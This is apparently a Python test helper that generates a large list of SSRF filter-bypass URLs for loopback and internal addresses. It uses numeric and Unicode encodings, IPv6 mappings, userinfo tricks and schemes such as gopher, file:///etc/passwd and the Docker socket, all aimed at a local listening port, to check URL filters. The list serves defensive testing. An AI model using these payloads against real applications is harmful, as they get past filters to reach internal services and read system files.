"""SSRF: the ways to write an address that is not public, as known from filters that let one of them pass.

`{port}` is where a listening server counts connections; all of these reach it, in one client or another.
"""

from collections.abc import Iterator

_PLAIN = [
    *("localhost", "LOCALHOST", "LocalHost", "localhost.", "localhost..", "ip6-localhost", "localhost.localdomain"),
    *("127.0.0.1", "127.0.0.1.", "127.0.0.1..", "127.0.0.2", "127.255.255.254", "127.1", "127.0.1", "127.0", "127"),
    *("0", "0.0.0.0", "0.0.0.0.", "00.0.0.0", "0x0", "0.0", "0000.0000.0000.0000"),
]
_NUMBERS = [
    *("2130706433", "2130706433.", "02130706433", "017700000001", "0017700000001", "0x7f000001", "0x7F000001"),
    *("0X7F000001", "0x07f000001", "0x7f.1", "0x7f.0.1", "0x7f.0.0.1", "0x7f.0x0.0x0.0x1", "0x7f.0.0.0x1"),
    *("127.0.0.0x1", "127.0x0.0x0.1", "0177.0.0.1", "0177.0.0.01", "0177.1", "0177.0x1", "00127.0.0.1"),
    *("127.00.00.01", "127.000.000.001", "127.65536", "127.0.256", "4294967297", "0x100000001", "-2130706433"),
    *("127.0.0.1e0", "2130706433.0", "0b1111111.0.0.1", "1.27.0.0.1", "127.0.0.1.1", "+127.0.0.1", "127 .0.0.1"),
]
_LETTERS = [
    *("１２７.0.0.1", "127。0。0。1", "127．0．0．1", "127｡0｡0｡1", "①②⑦.⓪.⓪.①", "𝟙𝟚𝟟.0.0.1", "²127.0.0.1"),
    *(
        "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ",
        "ｌｏｃａｌｈｏｓｔ",
        "lo\u00adcalhost",
        "local\u200bhost",
        "localhost\u3002",
        "ℓocalhost",
        "ˡocalhost",
    ),
    *("%31%32%37.0.0.1", "127%2e0%2e0%2e1", "%6c%6f%63%61%6c%68%6f%73%74", "127.0.0.1%00", "127.0.0.1%00.example.com"),
    *("127.0.0.1%20", "127.0.0.1%0d%0a", "127.0.0.1%23", "localhost%2f", "127.0.0.1;", "127.0.0.1,127.0.0.1"),
    *("127.0.0.1\t", "loc\talhost", "127.0.\n0.1", "127.0.0.1\r\n", "\x00127.0.0.1", "127.0.0.1\x00", "127.0.0.1 "),
]
_SIX = [
    *("[::1]", "[::]", "[::1]..", "[0:0:0:0:0:0:0:1]", "[0000:0000:0000:0000:0000:0000:0000:0001]", "[::0001]"),
    *("[0::1]", "[::0:1]", "[::127.0.0.1]", "[::7f00:1]", "[::0.0.0.0]", "[::1%25lo]", "[::1%lo]", "[fe80::1%25lo]"),
    *("[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::FFFF:7F00:0001]", "[0:0:0:0:0:ffff:127.0.0.1]", "[::ffff:0.0.0.0]"),
    *("[::ffff:0:127.0.0.1]", "[::ffff:0:7f00:1]", "[64:ff9b::127.0.0.1]", "[64:ff9b::7f00:1]", "[64:ff9b:1::7f00:1]"),
    *("[2002:7f00:1::]", "[2002:7f00:0001::1]", "[2001:0:7f00:1::]", "[2001:0::ffff:80ff:fffe]"),
    *("[2600::5efe:127.0.0.1]", "[2600::200:5efe:7f00:1]", "[fec0::1]", "[fc00::1]", "[fd00::1]", "[ff02::1]"),
    *("[::ffff:127.1]", "[::ffff:0x7f.0.0.1]", "[::ffff:2130706433]", "[127.0.0.1]", "[localhost]", "[v1.127.0.0.1]"),
    *("::1", "::ffff:127.0.0.1", "%5B::1%5D", "［::1］"),
]
_WHOLE = [
    *("http://example.com@127.0.0.1:{port}/", "http://example.com:80@127.0.0.1:{port}/", "http://@127.0.0.1:{port}/"),
    *("http://:@127.0.0.1:{port}/", "http://user:pass@localhost:{port}/", "http://127.0.0.1:{port}@example.com/"),
    *(
        "http://127.0.0.1:{port}\\@example.com/",
        "http://example.com\\@127.0.0.1:{port}/",
        "http:\\\\127.0.0.1:{port}\\",
    ),
    *("http://127.0.0.1:{port}#@example.com/", "http://127.0.0.1:{port}?@example.com/", "http:127.0.0.1:{port}/"),
    *("http:/127.0.0.1:{port}/", "http:///127.0.0.1:{port}/", "http:////127.0.0.1:{port}/", "//127.0.0.1:{port}/"),
    *(
        " http://127.0.0.1:{port}/",
        "\thttp://127.0.0.1:{port}/",
        "ht\ntp://127.0.0.1:{port}/",
        "HTTP://127.0.0.1:{port}/",
    ),
    *(
        "http://127.0.0.1:{port}:80/",
        "http://127.0.0.1:+{port}/",
        "http://127.0.0.1:0{port}/",
        "http://[::1]:{port}/x@y",
    ),
    *("https://127.0.0.1:{port}/", "https://localhost:{port}/", "ftp://127.0.0.1:{port}/", "ws://127.0.0.1:{port}/"),
    *(
        "gopher://127.0.0.1:{port}/_GET",
        "dict://127.0.0.1:{port}/",
        "file://127.0.0.1:{port}/etc/passwd",
        "file:///etc/passwd",
    ),
    *(
        "ldap://127.0.0.1:{port}/",
        "tftp://127.0.0.1:{port}/",
        "jar:http://127.0.0.1:{port}/!/",
        "data:,127.0.0.1:{port}",
    ),
    *(
        "unix:///run/docker.sock",
        "http+unix://%2Frun%2Fdocker.sock/",
        "url:http://127.0.0.1:{port}/",
        "http://[::1:{port}/",
    ),
    *(
        "http://127.0.0.1:{port}%2f@example.com/",
        "http://foo@[::1]:{port}@example.com/",
        "http://[::1]:{port}@/",
        "http://a:b@c@127.0.0.1:{port}/",
    ),
]


def urls(port: int) -> Iterator[str]:
    """Give each form with this port."""
    for host in (*_PLAIN, *_NUMBERS, *_LETTERS, *_SIX):
        yield f"http://{host}:{port}/"
    for url in _WHOLE:
        yield url.format(port=port)
